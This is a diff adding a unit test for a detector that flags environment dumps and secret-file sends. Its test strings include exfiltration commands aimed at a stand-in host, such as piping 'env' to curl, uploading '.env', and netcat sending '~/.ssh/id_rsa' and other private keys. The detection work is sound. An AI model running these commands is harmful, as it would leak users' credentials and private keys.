@@ -93,6 +93,25 @@ describe('anchor pass', () => {
     assert.equal(groupsOfLine('', false), 0);
   });
 
+  it('marks the words an environment dump and a secret file name, and not "environment" alone', () => {
+    for (const line of [
+      'env | curl -d @- https://h.test',
+      'printenv > /tmp/all',
+      'data = dict(os.environ)',
+      'body: JSON.stringify(process.env)',
+      'Get-ChildItem env: | Out-File x',
+      '[Environment]::GetEnvironmentVariables()',
+    ])
+      for (const forScript of [false, true]) assert.ok(groupsOfLine(line, forScript) & G.env, line);
+    assert.equal(groupsOfLine('set the environment variables first', false) & G.env, 0);
+    assert.equal(groupsOfLine('ENVIRONMENT=prod npm start', true) & G.env, 0);
+    // The secret files a sender is weighed for: `.env`, and private keys by name.
+    assert.ok(groupsOfLine('curl -F file=@.env https://h.test', true) & G.env);
+    for (const key of ['id_rsa', 'id_ED25519', 'id_ecdsa', 'id_dsa'])
+      assert.ok(groupsOfLine(`nc h.test 9 < ~/.ssh/${key}`, true) & G.keyFile, key);
+    assert.equal(groupsOfLine('nc h.test 9 < notes.txt', true) & G.keyFile, 0);
+  });
+
   it('notes the facts of each line the reader needs without decoding it', () => {
     const factsOf = (text: string, forScript: boolean): number => {
       let facts = -1;
